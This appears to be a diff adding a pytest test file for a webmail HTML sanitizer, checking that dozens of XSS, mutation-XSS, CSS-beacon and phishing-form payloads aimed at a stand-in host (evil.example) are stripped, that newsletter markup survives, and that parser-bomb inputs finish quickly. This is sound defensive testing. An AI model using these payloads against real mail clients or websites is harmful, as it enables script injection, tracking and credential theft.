@@ -1,0 +1,197 @@
+"""HTML of strangers: nothing acts, nothing calls home. The payload classes of real CVEs."""
+
+from __future__ import annotations
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from webmail import letters
+from webmail.letters.sanitize import ATTRIBUTES, TAGS, clean
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
+    '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>',
+    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
+    '<svg><set attributeName="style" to="background:url(http://evil.example/a)"/></svg>',
+    '<svg><rect fill="url(http://evil.example/a#x)" filter="url(//evil.example/f"/></svg>',
+    '<p style="--x:url(http://evil.example/a);background:var(--x)">x</p>',
+    '<p style="background:\\75rl(http://evil.example/a)">x</p>',
+    '<p style="background:url/**/(http://evil.example/a)">x</p>',
+    "<p style=\"background:image-set('http://evil.example/a' 1x)\">x</p>",
+    '<p style="background:url(http://evil.example/a">x</p>',
+    '<p style="list-style:url(http://evil.example/a)">x</p>',
+    '<p style="cursor:url(http://evil.example/a),auto">x</p>',
+    '<p style="content:url(http://evil.example/a)">x</p>',
+    '<p style="border-image:url(http://evil.example/a)">x</p>',
+    '<p style="width:calc(1px + attr(data-x))">x</p>',
+    "<style>@import 'http://evil.example/a';</style>",
+    "<style>@font-face{font-family:x;src:url(http://evil.example/a)}</style>",
+    "<style>@namespace x url(http://evil.example/a);</style>",
+    "<style>p{background:url(http://evil.example/a)}</style>",
+    '<style>a{color:"</style><script>alert(1)</script>"}</style>',
+    "<style>a{}</sty\\le><img src=x onerror=alert(1)></style>",
+    "<style>@media screen{p{background:url(//evil.example/a)}}</style>",
+    '<style>p[title="</style><img src=x onerror=alert(1)>"]{color:red}</style>',
+    '<body background="http://evil.example/a" onload=alert(1)>x</body>',
+    '<table background="http://evil.example/a"><tr><td background="//evil.example/a">x</table>',
+    '<link rel=stylesheet href="http://evil.example/a.css">',
+    '<link rel=dns-prefetch href="//evil.example"><link rel=preload href="//evil.example/a">',
+    "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<svg><style><!--</style><img src="x" onerror="alert(1)">--></style></svg>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<form action="http://evil.example/"><input name=password><button>x</button></form>',
+    '<meta http-equiv=refresh content="0;url=http://evil.example/">',
+    '<base href="http://evil.example/"><a href="x">x</a>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href=" &#1; javascript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:x">x</a><a href="imap://evil.example/x">x</a>',
+    '<a href="http://ok.example" ping="http://evil.example/a">x</a>',
+    '<img src="http://evil.example/a"><img src="//evil.example/a">',
+    '<img srcset="http://evil.example/a 2x"><picture><source srcset="//evil.example/a"></picture>',
+    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+    '<img lowsrc="http://evil.example/a" dynsrc="http://evil.example/a">',
+    '<video poster="http://evil.example/a" src="//evil.example"><track src="//evil.example">',
+    '<audio src="http://evil.example/a" autoplay></audio>',
+    '<iframe src="http://evil.example/"></iframe><object data="//evil.example"></object>',
+    '<embed src="http://evil.example/a"><applet code=x></applet>',
+    "<img name=body><form id=x></form><a id=document>x</a>",
+    '<!--[if vml]><v:fill src="http://evil.example/a"/><![endif]-->',
+    '<p style="position:fixed;top:0;z-index:9 !important">x</p>',
+    '<p style="behavior:url(x);-moz-binding:url(http://evil.example/a)">x</p>',
+    '<p style="width:expression(alert(1))">x</p>',
+    "<template><script>alert(1)</script></template>",
+    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)",
+    "<p style=\"font-family:'</style><script>alert(1)</script>'\">x</p>",
+    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
+    '<a href="http://ok.example" target="_self" rel="opener">x</a>',
+]
+GOOD_IMAGE = re.compile(r"(?:/inline/|data:image/(?:png|gif|jpe?g|webp);base64,)")
+
+
+class Judge(HTMLParser):
+    """Everything that is left must be on the list of what may stay."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.wrong: list[str] = []
+        self.in_style = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in TAGS:
+            self.wrong.append(f"<{tag}>")
+        for name, value in attrs:
+            self.judge(tag, name, value or "")
+
+    def judge(self, tag: str, name: str, value: str) -> None:
+        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"target", "rel"}
+        if name not in allowed:
+            self.wrong.append(f"{tag} {name}")
+        if name in ("src", "background") and not GOOD_IMAGE.match(value):
+            self.wrong.append(f"{tag} {name}={value}")
+        if name == "href" and not value.strip().startswith(("http", "mailto:", "tel:", "#")):
+            self.wrong.append(f"{tag} {name}={value}")
+        if name == "style" and re.search(r"(?i)https?:|//|var\(|expression|position|\\", value):
+            self.wrong.append(f"{tag} {name}={value}")
+        if name == "target" and value != "_blank":
+            self.wrong.append(f"{tag} {name}={value}")
+
+
+def judged(html: str, remote: bool = False) -> list[str]:
+    safe = clean(html, lambda cid: f"/inline/{len(cid)}", remote)
+    judge = Judge()
+    judge.feed(safe.body)
+    judge.close()
+    if re.search(r"(?i)<|https?:|url\((?!\"/inline)|@import|@font|\\", safe.styles):
+        judge.wrong.append(safe.styles)
+    return judge.wrong
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_is_left(payload: str) -> None:
+    assert judged(payload) == []
+    assert judged(f"<div>{payload}</div><p>tail") == []
+
+
+@given(
+    st.lists(st.sampled_from([*PAYLOADS, "<", ">", '"', "'", "--", "</style>", "\0"]), max_size=6)
+)
+def test_no_mixture_of_payloads_is_left(pieces: list[str]) -> None:
+    assert judged("".join(pieces)) == []
+
+
+@given(st.text(max_size=300))
+def test_any_text_can_be_cleaned(text: str) -> None:
+    assert judged(text) == []
+
+
+def test_what_a_newsletter_needs_stays() -> None:
+    html = (
+        "<style>.a{color:#333;padding:4px}@media(max-width:600px){.a{width:100%}}</style>"
+        '<table width="600" bgcolor="#ffffff"><tr><td class="a" style="color:red;margin:0 auto">'
+        '<a href="https://shop.example/x?y=1&amp;z=2">Buy</a><img src="cid:logo@x" width="20">'
+        "</td></tr></table>"
+    )
+    safe = clean(html, {"logo@x": "/inline/logo"}.get, remote=False)
+    assert ".a{color:#333;padding:4px}" in safe.styles
+    assert "@media (max-width:600px)" in safe.styles.replace("@media(", "@media (")
+    assert 'style="color:red;margin:0 auto"' in safe.body
+    assert 'src="/inline/logo"' in safe.body and 'bgcolor="#ffffff"' in safe.body
+    assert 'href="https://shop.example/x?y=1&amp;z=2"' in safe.body
+    assert safe.blocked == 0
+
+
+def test_remote_images_come_only_when_asked_for() -> None:
+    html = '<img src="http://t.example/p.gif"><p style="background:url(//t.example/b.png)">x</p>'
+    assert letters.has_remote(html)
+    kept_out = letters.frame(html, lambda cid: None, remote=False)
+    assert kept_out.blocked == 2 and "t.example" not in kept_out.html
+    let_in = letters.frame(html, lambda cid: None, remote=True)
+    assert let_in.blocked == 0 and "http://t.example/p.gif" in let_in.html
+    assert not letters.has_remote('<img src="cid:x"> http://x.example')
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        "<div>" * 100_000,
+        "<b><i>" * 50_000,
+        "<p><font>" * 20_000,
+        "<a" * 500_000,
+        "<style" * 200_000,
+        "<style>" * 100_000,
+        "<style>" + "{" * 100_000,
+        "<table><tr><td>" * 5_000,
+        '<p style="' + "a:b;" * 100_000 + '">',
+        "url(" + " " * 500_000,
+        "&" * 500_000,
+        "<!--" * 200_000,
+    ],
+)
+def test_no_bomb_takes_long(bomb: str) -> None:
+    started = time.monotonic()
+    letters.has_remote(bomb)
+    letters.frame(bomb, lambda cid: None, remote=False)
+    assert time.monotonic() - started < 5
+
+
+def test_the_response_locks_the_message_in() -> None:
+    response = letters.sandboxed(letters.frame("<p>x</p>", lambda cid: None, False), False)
+    policy = response["Content-Security-Policy"]
+    assert policy.startswith(
+        "sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'"
+    )
+    assert "script-src" not in policy and "http:" not in policy
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert "no-store" in response["Cache-Control"]
+    assert "http:" in letters.policy(remote=True)
